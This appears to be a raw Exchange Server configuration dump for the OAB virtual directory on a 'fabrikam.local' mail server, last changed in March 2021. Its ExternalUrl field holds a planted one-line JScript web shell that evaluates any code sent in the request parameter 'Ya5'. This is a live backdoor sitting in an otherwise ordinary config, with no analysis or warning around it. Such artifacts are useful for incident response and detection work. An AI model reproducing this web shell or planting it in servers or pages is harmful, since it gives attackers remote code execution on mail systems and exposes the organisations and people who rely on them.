Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : {\Default Offline Address Book (Ex2013)}
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://MAIL.fabrikam.local/W3SVC/1/ROOT/OAB
Path                            : D:\Exchange\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.0 (Build 1497.2)
Server                          : MAIL
InternalUrl                     : https://mail.fabrikam.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request.Item["Ya5"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=MAIL,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Fabrikam,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=fabrikam,DC=local
Identity                        : MAIL\OAB (Default Web Site)
Guid                            : c0a8e214-6b7d-47f2-8e31-9d4b5a60f1ce
ObjectCategory                  : fabrikam.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/2/2021 11:58:40 PM
WhenCreated                     : 6/8/2017 9:12:04 AM
WhenChangedUTC                  : 3/3/2021 7:58:40 AM
WhenCreatedUTC                  : 6/8/2017 4:12:04 PM
OrganizationId                  :
Id                              : MAIL\OAB (Default Web Site)
OriginatingServer               : FABDC02.fabrikam.local
IsValid                         : True
ObjectState                     : Changed
DisplayName                     : OAB
AuthenticationMethods           : {WindowsIntegrated}
MaxSessionTimeoutMinutes        :
OABVirtualDirectoryFlags        : None
RunspaceId                      : 91e3a7c5-24f0-4b6d-a8f9-0c17d2e5b364
